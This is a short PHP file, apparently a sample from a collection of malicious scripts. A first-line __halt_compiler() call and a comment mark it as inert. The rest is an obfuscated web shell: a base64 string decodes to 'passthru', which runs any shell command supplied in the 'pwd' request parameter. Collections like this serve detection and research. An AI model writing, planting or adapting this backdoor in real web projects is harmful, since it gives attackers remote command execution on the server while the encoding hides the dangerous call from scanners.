<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$cry = base64_decode('cGFzc3RocnU=');
array_map($cry, array($_REQUEST['pwd']));
